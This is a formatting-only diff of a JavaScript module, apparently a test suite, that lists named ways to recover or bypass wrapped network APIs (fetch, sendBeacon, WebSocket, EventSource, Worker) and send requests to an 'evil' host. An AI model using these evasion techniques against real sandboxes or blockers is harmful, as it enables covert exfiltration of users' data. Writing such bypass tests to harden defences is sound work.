@@ -1,12 +1,18 @@
 // The original, back from under its wrapper.
 export default {
-  "delete": ({ send }) => {
-    for (const [object, name] of [[window, "fetch"], [window, "EventSource"], [window, "WebSocket"], [Navigator.prototype, "sendBeacon"], [XMLHttpRequest.prototype, "open"]])
+  delete: ({ send }) => {
+    for (const [object, name] of [
+      [window, "fetch"],
+      [window, "EventSource"],
+      [window, "WebSocket"],
+      [Navigator.prototype, "sendBeacon"],
+      [XMLHttpRequest.prototype, "open"],
+    ])
       Reflect.deleteProperty(object, name);
     send();
     new Image().src = "data:,x";
   },
-  "defineProperty": ({ evil }) => {
+  defineProperty: ({ evil }) => {
     const { fetch: before } = window;
     try {
       Object.defineProperty(window, "fetch", { value: before, configurable: true, writable: true });
@@ -29,11 +35,11 @@ export default {
     caught = descriptor.get?.call(window) ?? caught;
     return caught.call(window, evil, { mode: "no-cors" });
   },
-  "__lookupGetter__": ({ evil }) => {
+  __lookupGetter__: ({ evil }) => {
     const get = window.__lookupGetter__("fetch");
     return (get ? get.call({}) : fetch)(evil, { mode: "no-cors" });
   },
-  "__defineGetter__": ({ evil }) => {
+  __defineGetter__: ({ evil }) => {
     const before = Navigator.prototype.sendBeacon;
     try {
       Navigator.prototype.__defineGetter__("sendBeacon", () => before);
@@ -71,7 +77,7 @@ export default {
   "the constructor of an event source": ({ evil }) => void new EventSource.prototype.constructor(evil),
   "the constructor of a worker": ({ blob, sends }) =>
     void new Worker.prototype.constructor(blob(sends, "text/javascript")),
-  "super": ({ socket }) => {
+  super: ({ socket }) => {
     class Mine extends WebSocket {
       constructor() {
         super(socket);
@@ -91,12 +97,12 @@ export default {
     Reflect.set(window, "fetch", fetch, into);
     return (into.fetch ?? fetch)(evil, { mode: "no-cors" });
   },
-  "with": `({ evil }) => { with (window) { return fetch(evil, { mode: "no-cors" }); } }`,
+  with: `({ evil }) => { with (window) { return fetch(evil, { mode: "no-cors" }); } }`,
   "an object that inherits from the page": ({ evil }) =>
     Object.create(window).fetch.call(window, evil, { mode: "no-cors" }),
   "a copy of the page": ({ evil }) =>
     ({ ...window }).fetch?.call(window, evil, { mode: "no-cors" }) ?? fetch(evil, { mode: "no-cors" }),
-  "bind": ({ evil }) => fetch.bind(window, evil, { mode: "no-cors" })(),
+  bind: ({ evil }) => fetch.bind(window, evil, { mode: "no-cors" })(),
   "call on nothing": ({ evil }) => fetch.call(undefined, evil, { mode: "no-cors" }),
   "the source of a function": ({ evil }) => {
     const text = Function.prototype.toString.call(fetch);
@@ -105,7 +111,12 @@ export default {
   },
   "a getter in the way of the original": ({ evil }) => {
     let caught;
-    Object.defineProperty(Object.prototype, "fetch", { set(value) { caught = value; }, configurable: true });
+    Object.defineProperty(Object.prototype, "fetch", {
+      set(value) {
+        caught = value;
+      },
+      configurable: true,
+    });
     return (caught ?? fetch)(evil, { mode: "no-cors" });
   },
   "the module, imported again": async ({ own, evil }) => {
